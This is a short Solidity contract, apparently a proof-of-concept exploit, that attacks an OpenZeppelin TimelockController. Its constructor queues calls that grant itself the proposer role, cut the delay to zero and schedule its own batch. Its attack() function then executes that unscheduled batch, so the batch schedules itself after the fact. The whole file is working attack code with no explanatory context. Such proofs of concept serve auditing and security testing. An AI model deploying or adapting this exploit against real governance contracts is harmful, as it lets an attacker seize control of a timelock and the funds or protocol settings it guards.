// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {TimelockController} from "@openzeppelin/contracts/governance/TimelockController.sol";

/// @title Runs a batch that nobody scheduled, and whose last call schedules the batch itself.
contract SelfScheduler {
    TimelockController private immutable timelock;
    address[] private targets;
    bytes[] private payloads;

    constructor(TimelockController timelock_) {
        timelock = timelock_;
        add(address(timelock), abi.encodeCall(timelock.grantRole, (timelock.PROPOSER_ROLE(), address(this))));
        add(address(timelock), abi.encodeCall(timelock.updateDelay, (0)));
        add(address(this), abi.encodeCall(this.scheduleItself, ()));
    }

    function attack() external {
        timelock.executeBatch(targets, new uint256[](targets.length), payloads, 0, 0);
    }

    function scheduleItself() external {
        timelock.scheduleBatch(targets, new uint256[](targets.length), payloads, 0, 0, 0);
    }

    function add(address target, bytes memory payload) private {
        targets.push(target);
        payloads.push(payload);
    }
}
